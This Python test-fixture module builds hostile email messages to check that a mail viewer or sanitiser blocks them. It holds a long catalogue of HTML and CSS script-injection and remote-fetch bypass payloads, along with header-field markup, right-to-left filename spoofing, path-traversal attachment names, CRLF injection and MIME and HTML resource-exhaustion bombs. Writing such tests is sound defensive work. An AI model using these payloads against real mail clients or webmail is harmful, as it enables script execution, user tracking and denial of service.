"""Mail that attacks whoever looks at it.

Each message tries to run something, to fetch something, or to be more than can be held.
What runs or fetches asks the server that its text names, which counts.
"""

# ruff: noqa: E501 - attacks are not broken into lines

from __future__ import annotations

import base64
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ["GROWING", "bombs", "deceptions", "html_attacks", "mail_with_html"]

# One pixel, transparent.
PIXEL: Final = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01"
    b"\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


def mail_with_html(html: str, subject: str = "hostile") -> bytes:
    """Make a message of an HTML text and a picture called ``logo``."""
    picture = base64.b64encode(PIXEL)
    drawing = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    return b"\r\n".join(
        (
            b"From: Mallory <mallory@example.com>",
            b"To: ann@example.com",
            b"Subject: " + subject.encode(),
            b"Date: Sun, 22 Nov 2026 16:58:00 +0000",
            b"Message-ID: <hostile@example.com>",
            b"MIME-Version: 1.0",
            b'Content-Type: multipart/related; boundary="=-="',
            b"",
            b"--=-=",
            b"Content-Type: text/html; charset=utf-8",
            b"Content-Transfer-Encoding: base64",
            b"",
            base64.encodebytes(html.encode()).replace(b"\n", b"\r\n"),
            b"--=-=",
            b"Content-Type: image/gif",
            b"Content-ID: <logo>",
            b"Content-Transfer-Encoding: base64",
            b"",
            picture,
            b"--=-=",
            b"Content-Type: image/png",
            b"Content-ID: <drawing>",
            b"Content-Transfer-Encoding: base64",
            b"",
            drawing,
            b"--=-=",
            b"Content-Type: text/html",
            b"Content-ID: <page>",
            b"",
            b"<script>top.location='http://x.invalid/'</script>",
            b"--=-=--",
            b"",
        )
    )


# {url} is the server that counts; {run} a script that asks it.
_ATTACKS: Final = {
    "script": "<script>{run}</script>",
    "script from elsewhere": "<script src='{url}/s.js'></script>",
    "script in pieces": "<scr<script>ipt>{run}</scr</script>ipt>",
    "script after a null": "<scr\0ipt>{run}</script><script\0>{run}</script>",
    "module": "<script type=module>import '{url}/m.js'</script>",
    "noscript trick": "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "onerror": '<img src=x onerror="{run}">',
    "onload": '<body onload="{run}"><svg onload="{run}">',
    "onmouseover over all": (
        "<div onmouseover=\"{run}\" style='position:fixed;inset:0'>x</div>"
    ),
    "ontoggle": '<details open ontoggle="{run}"><summary>x</summary></details>',
    "autofocus": '<input autofocus onfocus="{run}"><b tabindex=1 onfocus={run}>',
    "handler after a slash": "<img/src=x/onerror={run}>",
    "handler after a quote": "<img src='x'onerror={run}>",
    "handler with a form feed": "<img\x0csrc=x\x0conerror={run}>",
    "animation handler": (
        "<style>@keyframes k{{}}</style>"
        "<b style='animation:k' onanimationstart=\"{run}\">"
    ),
    "css import": "<style>@import url({url}/i.css);@import '{url}/j.css';</style>",
    "css import, escaped": r"<style>@\69mport '{url}/i.css';@i\m\p\ort '{url}/j'</style>",
    "css import in a comment": "<style>/**/@import/**/'{url}/i.css';</style>",
    "css url": (
        "<p style='background:url({url}/a.png)'>"
        "<p style=\"background:url('{url}/b.png')\">"
        "<style>p{{background-image:url( {url}/c.png );cursor:url({url}/d.cur),auto}}"
        "li{{list-style-image:url({url}/e.png)}}</style><li>x"
    ),
    "css url, escaped": (
        r"<p style='background:\75\72\6c({url}/a.png)'>"
        r"<p style='background:u\rl({url}/b.png)'>"
        r"<p style='background:url(\68ttp:{rest}/c.png)'>"
    ),
    "css url over a comment": "<p style='background:url/**/({url}/a.png)'>",
    "css image-set": (
        "<p style=\"background:image-set('{url}/a.png' 1x)\">"
        '<p style="background:-webkit-image-set(url({url}/b.png) 1x)">'
        '<p style="background:cross-fade(url({url}/c.png),red)">'
        "<style>p{{content:src('{url}/d.png');mask:image('{url}/e.png')}}</style>"
    ),
    "css variable": (
        "<style>p{{--a:url({url}/a.png);background:var(--a)}}</style><p>x"
    ),
    "css font": (
        "<style>@font-face{{font-family:f;src:url({url}/f.woff)}}p{{font-family:f}}"
        "</style><p>x"
    ),
    "css that reads": "<style>input[value^=a]{{background:url({url}/a)}}</style><input value=a>",
    "css that ends its element": (
        "<style>p{{content:'</style><script>{run}</script>'}}</style>"
        "<style>&lt;/style><img src=x onerror={run}></style>"
    ),
    "css expression": (
        "<p style='width:expression({run})'><p style='behavior:url({url}/b.htc)'>"
        "<p style='-moz-binding:url({url}/b.xml#x)'>"
    ),
    "style attribute tricks": (
        "<p style='color:red;/*'><p style='*/background:url({url}/a.png)'>"
        "<p style='background:url({url}/b.png'>"
        "<p style='background:url(\"{url}/c.png)'>"
        "<p style='}} @import \"{url}/d.css\"; x{{'>"
        "<p style='background:URL ({url}/e.png)'>"
        "<p style='background&#58;url&#40;{url}/f.png&#41;'>"
    ),
    "remote image": "<img src='{url}/a.png'><img src={url}/b.png width=1 height=1>",
    "remote image, without scheme": "<img src='{rest}/a.png'><img src='\\\\{host}/b'>",
    "remote image, with spaces": "<img src=' \n{url}/a.png'><img src='ht\ntp:{rest}/b'>",
    "srcset": "<img srcset='{url}/a.png 1x, {url}/b.png 2x'>"
    "<picture><source srcset='{url}/c.png'><img src='{url}/d.png'></picture>",
    "lazy image": "<img loading=eager dynsrc='{url}/a' lowsrc='{url}/b' longdesc='{url}/c'>",
    "background attribute": (
        "<body background='{url}/a.png'><table background='{url}/b.png'>"
        "<tr><td background='{url}/c.png'>x</table>"
    ),
    "image element under its old name": "<image src='{url}/a.png'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={url}/r'>",
    "meta refresh to a script": (
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>{run}</script>'>"
    ),
    "meta policy": "<meta http-equiv=Content-Security-Policy content='img-src *'>"
    "<img src='{url}/a.png'>",
    "link": (
        "<link rel=stylesheet href='{url}/a.css'><link rel=preload as=image "
        "href='{url}/b'><link rel=prefetch href='{url}/c'><link rel=icon href='{url}/d'>"
        "<link rel=dns-prefetch href='{url}'><link rel=preconnect href='{url}'>"
    ),
    "base": "<base href='{url}/'><img src='a.png'><a href='b'>x</a>",
    "frame": (
        "<iframe src='{url}/a'></iframe><iframe srcdoc='<script>{run}</script>'></iframe>"
        "<frameset><frame src='{url}/b'></frameset>"
    ),
    "object": (
        "<object data='{url}/a'></object><embed src='{url}/b'>"
        "<applet code='{url}/c'></applet><object data='data:text/html,x'></object>"
    ),
    "media": (
        "<video src='{url}/a' autoplay poster='{url}/b'></video>"
        "<audio src='{url}/c' autoplay></audio><bgsound src='{url}/d'>"
        "<video><source src='{url}/e'><track src='{url}/f' default></video>"
    ),
    "form": (
        "<form action='{url}/a' id=f><input name=q value=1></form>"
        "<input type=image src='{url}/b'><button form=f formaction='{url}/c'>x</button>"
        "<isindex action='{url}/d'>"
    ),
    "svg": (
        "<svg><script>{run}</script><image href='{url}/a.png'/>"
        "<use href='{url}/b.svg#x'/><animate onbegin=\"{run}\" attributeName=x dur=1s>"
        "<foreignObject><img src='{url}/c.png'></foreignObject></svg>"
    ),
    "svg that leaves its namespace": (
        '<svg></p><style><a id="</style><img src=x onerror={run}>">'
        "<svg><style><img src='{url}/a.png' onerror=\"{run}\"></style></svg>"
    ),
    "math that leaves its namespace": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
        '&lt;img src=1 onerror={run}&gt;">'
    ),
    "form in a form in math": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src='{url}/a.png' onerror=\"{run}\">"
    ),
    "comment that does not end": "<!--><img src='{url}/a.png' onerror=\"{run}\">-->",
    "comment of old browsers": "<!--[if mso]><img src='{url}/a.png'><![endif]-->x",
    "cdata": "<![CDATA[<img src='{url}/a.png'>]]><svg><![CDATA[<script>{run}</script>]]>",
    "template": "<template><img src='{url}/a.png'><script>{run}</script></template>",
    "raw text": (
        "<xmp><img src='{url}/a.png'></xmp><noembed><img src='{url}/b.png'></noembed>"
        "<textarea></textarea><img src='{url}/c.png'></textarea>"
        "<title></title><img src='{url}/d.png' onerror={run}>"
    ),
    "plaintext": "<plaintext></plaintext><img src='{url}/a.png' onerror={run}>",
    "javascript link": (
        "<a id=l href='javascript:{run}'>x</a><a href='jAvA\tscript:{run}'>y</a>"
        "<a href='&#106;avascript:{run}'>z</a><a href='\x01javascript:{run}'>w</a>"
        "<a href='vbscript:x'>v</a><a href='data:text/html,<script>{run}</script>'>u</a>"
    ),
    "ping": "<a href='https://example.com' ping='{url}/p'>x</a>",
    "map": "<img src=cid:logo usemap='#m'><map name=m><area href='javascript:{run}'></map>",
    "data: image that is a drawing": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='{run}'><image href='{url}/a.png'/></svg>\">"
    ),
    "data: page": "<iframe src='data:text/html,<script>{run}</script>'></iframe>"
    "<img src='data:text/html;base64,PGI+'>",
    "cid of a page": "<iframe src='cid:page'></iframe><img src='cid:page'>"
    "<img src='cid:drawing'><object data='cid:drawing'></object>",
    "cid of nothing": (
        "<img src='cid:'><img src='cid:../../etc/passwd'><img src='cid:{url}/a.png'>"
        "<img src='cid:logo\" onerror=\"{run}'><img src='CID:logo'><p "
        "style='background:url(cid:logo) , url({url}/b.png)'>"
    ),
    "attribute that ends its tag": (
        "<img alt='\"><script>{run}</script>' title=\"'><img src={url}/a.png>\">"
        "<p class='\"><script>{run}</script>' id='`onload={run}`'>"
    ),
    "attribute on the body": (
        "<body style='background:url({url}/a.png)' class='\"onload={run}' "
        "title='><script>{run}</script>'>"
    ),
    "tag that does not end": "<img src='{url}/a.png' onerror=\"{run}\"",
    "manifest": "<html manifest='{url}/m'><head profile='{url}/p'>",
    "xml": "<?xml-stylesheet href='{url}/x.css'?><xml src='{url}/x' id=x></xml>",
    "shadow": "<div><template shadowrootmode=open><img src='{url}/a.png'></template></div>",
    "popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle={run}>",
    "portal and fencedframe": "<portal src='{url}/a'></portal>"
    "<fencedframe src='{url}/b'></fencedframe>",
    "speculation": (
        '<script type=speculationrules>{{"prefetch":[{{"source":"list",'
        '"urls":["{url}/a"]}}]}}</script>'
    ),
    "import map": '<script type=importmap>{{"imports":{{"x":"{url}/a.js"}}}}</script>',
    "charset trick": "+ADw-script+AD4-{run}+ADw-/script+AD4-\x1b$B<script>{run}</script>",
}


def html_attacks(url: str) -> dict[str, str]:
    """Return HTML texts that run or fetch something where nothing stops them.

    Args:
        url: of the server that counts, as in ``http://127.0.0.1:8000``.
    """
    rest = url.partition(":")[2]
    # In one word: it stands in attributes without quotes, too.
    run = f"new/**/Image().src=`{url}/ran`"
    return {
        name: html.format(url=url, rest=rest, host=rest.strip("/"), run=run)
        for name, html in _ATTACKS.items()
    }


def deceptions(url: str) -> dict[str, bytes]:
    """Return messages whose fields and file names hold markup, paths and tricks.

    Args:
        url: of the server that counts.
    """
    markup = f"<img src={url}/field onerror=new/**/Image().src='{url}/ran'>"
    head = b"Date: Sun, 22 Nov 2026 16:58:00 +0000\r\n"

    def mail(*lines: str) -> bytes:
        return head + "\r\n".join(lines).encode()

    return {
        "markup in fields": mail(
            f'From: "{markup}" <"<b>x</b>"@example.com>',
            f"To: {markup} <ann@example.com>, <svg/onload=x>@example.com",
            f"Subject: {markup}",
            f"Message-ID: <{markup}>",
            f"X-{'x' * 60}: {markup}",
            f"Content-Type: text/plain; charset={markup}",
            "",
            markup,
        ),
        "markup in encoded words": mail(
            "From: =?utf-8?b?"
            + base64.b64encode(markup.encode()).decode()
            + "?= <m@example.com>",
            "Subject: =?utf-8?q?=3Cscript=3Ealert=281=29=3C=2Fscript=3E?=",
            "",
            "x",
        ),
        "text that runs backwards": mail(
            "From: \N{RIGHT-TO-LEFT OVERRIDE}moc.elpmaxe@nna <m@evil.example>",
            "Subject: photo\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
            'Content-Disposition: attachment; filename="\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe"',
            "",
            "x",
        ),
        "paths in file names": mail(
            "From: m@example.com",
            "Subject: paths",
            'Content-Type: multipart/mixed; boundary="b"',
            "",
            *(
                line
                for name in (
                    "../../../etc/passwd",
                    "..\\..\\boot.ini",
                    "/etc/shadow",
                    "C:\\autoexec.bat",
                    ".bashrc",
                    "con",
                    "a" * 300,
                    "..",
                    markup,
                    "x\\r\\nSet-Cookie: a=b",
                )
                for line in (
                    "--b",
                    "Content-Type: application/octet-stream",
                    f"Content-Disposition: attachment; filename*=utf-8''{_percent(name)}",
                    "",
                    "x",
                )
            ),
            "--b--",
        ),
        "charset that lies": head
        + b"From: m@example.com\r\nSubject: \xff\xfe =?x-no-such?q?=FF?=\r\n"
        b"Content-Type: text/html; charset=utf-16\r\n\r\n<script>x</script>\xff",
        "charset that is code": head
        + b"From: m@example.com\r\nSubject: =?unicode_escape?q?=5Cx3cb=3E?=\r\n"
        b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-x()",
    }


def _percent(text: str) -> str:
    return "".join(f"%{octet:02X}" for octet in text.encode())


def bombs() -> dict[str, bytes]:
    """Return messages of a megabyte or so that are more than can be held."""
    open_parts = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
        for n in range(10_000)
    )
    related = b"Content-Type: multipart/related; boundary=b\r\n\r\n"
    picture = base64.b64encode(PIXEL + bytes(500_000))
    return {
        "depth": b"Subject: depth\r\n" + open_parts,
        "width": b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        + b"--b\r\n\r\nx\r\n" * 100_000,
        "headers": b"X: y\r\n" * 100_000 + b"\r\nx",
        "one header": b"Subject: " + b" x\r\n" * 200_000 + b"\r\nx",
        "recipients": b"To: " + b"a@b.c, " * 100_000 + b"\r\n\r\nx",
        "parameters": b"Content-Type: text/plain" + b"; a=b" * 100_000 + b"\r\n\r\nx",
        "encoded words": b"Subject: " + b"=?utf-8?q?x?= " * 50_000 + b"\r\n\r\nx",
        "one picture a thousand times": related
        + b"--b\r\nContent-Type: text/html\r\n\r\n"
        + b"<img src=cid:p>" * 1_000
        + b"\r\n--b\r\nContent-Type: image/gif\r\nContent-ID: <p>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + picture + b"\r\n--b--\r\n",
        "html depth": b"Content-Type: text/html\r\n\r\n" + b"<div>" * 200_000,
        "html attributes": b"Content-Type: text/html\r\n\r\n<p "
        + b" ".join(b"a%x" % n for n in range(100_000))
        + b">",
        "html formatting": b"Content-Type: text/html\r\n\r\n"
        + b"".join(b"<font color=%d>" % n for n in range(30_000)),
        "css": b"Content-Type: text/html\r\n\r\n<style>" + b"url(\\61 (" * 50_000,
    }


def _as_html(piece: bytes, size: int, opening: bytes = b"") -> bytes:
    head = b"Content-Type: text/html\r\n\r\n" + opening
    return head + piece * (size // len(piece))


def _numbered(pattern: bytes, size: int) -> bytes:
    """Join pieces with a number in each, of a size together."""
    count = size // (len(pattern) + 2)
    return b"".join(pattern.replace(b"#", b"%d" % number) for number in range(count))


def _in_field(name: bytes, piece: bytes, ending: bytes = b"") -> Callable[[int], bytes]:
    """Make messages with a field that is one piece again and again."""

    def make(size: int) -> bytes:
        count = size // len(piece)
        return name + b": " + piece * count + ending + b"\r\n\r\nx"

    return make


#: Messages of about so many octets, each of which was, or might be, slow to look at:
#: twice the octets must not be four times the work.
GROWING: Final[dict[str, Callable[[int], bytes]]] = {
    "parts in parts": lambda size: (
        b"Subject: x\r\n"
        + _numbered(b"Content-Type: multipart/mixed; boundary=b#\r\n\r\n--b#\r\n", size)
    ),
    "parts beside parts": lambda size: (
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        + b"--b\r\n\r\nx\r\n" * (size // 10)
    ),
    "lines like boundaries": lambda size: (
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--c\r\n" * (size // 5)
    ),
    "header fields": lambda size: b"X:y\r\n" * (size // 5) + b"\r\nx",
    "fields of recipients": lambda size: b"To: a@b.c\r\n" * (size // 11) + b"\r\nx",
    "a folded field": _in_field(b"Subject", b" x\r\n"),
    "a long encoded word": lambda size: (
        b"Subject: =?utf-8?b?" + b"QUJD" * (size // 4) + b"?=\r\n\r\nx"
    ),
    "many encoded words": _in_field(b"Subject", b"=?utf-8?q?=C3?= "),
    "encoded words that do not end": _in_field(b"Subject", b"=?utf-8?q?x"),
    "parameters": _in_field(b"Content-Type", b";a=b", b"\r\nX: y"),
    "parameters without a value": _in_field(b"Content-Type", b";", b"a=b"),
    # RFC 2231 section 3.
    "a parameter in segments": lambda size: (
        b"Content-Disposition: attachment"
        + _numbered(b";\r\n filename*#*=%41", size)
        + b"\r\n\r\nx"
    ),
    "addresses": _in_field(b"To", b"a@b.c,"),
    "groups": _in_field(b"To", b"a:;"),
    "comments in comments": _in_field(b"From", b"("),
    "a route that does not end": lambda size: b"From: <" + b"@" * size + b">\r\n\r\nx",
    "spaces around dots": _in_field(b"From", b" . "),
    "nested tags": lambda size: _as_html(b"<div>", size),
    "nested tags of tables": lambda size: _as_html(b"<table><b>", size),
    "style sheets": lambda size: _as_html(b"url(\\61 (", size, b"<style>"),
    "quotes in a style sheet": lambda size: _as_html(b"url('", size, b"<style>"),
    "comments in a style sheet": lambda size: _as_html(b"/*", size, b"<style>"),
    "ampersands": lambda size: _as_html(b"&", size, b"<p title='"),
    "angle brackets": lambda size: _as_html(b"<", size),
}
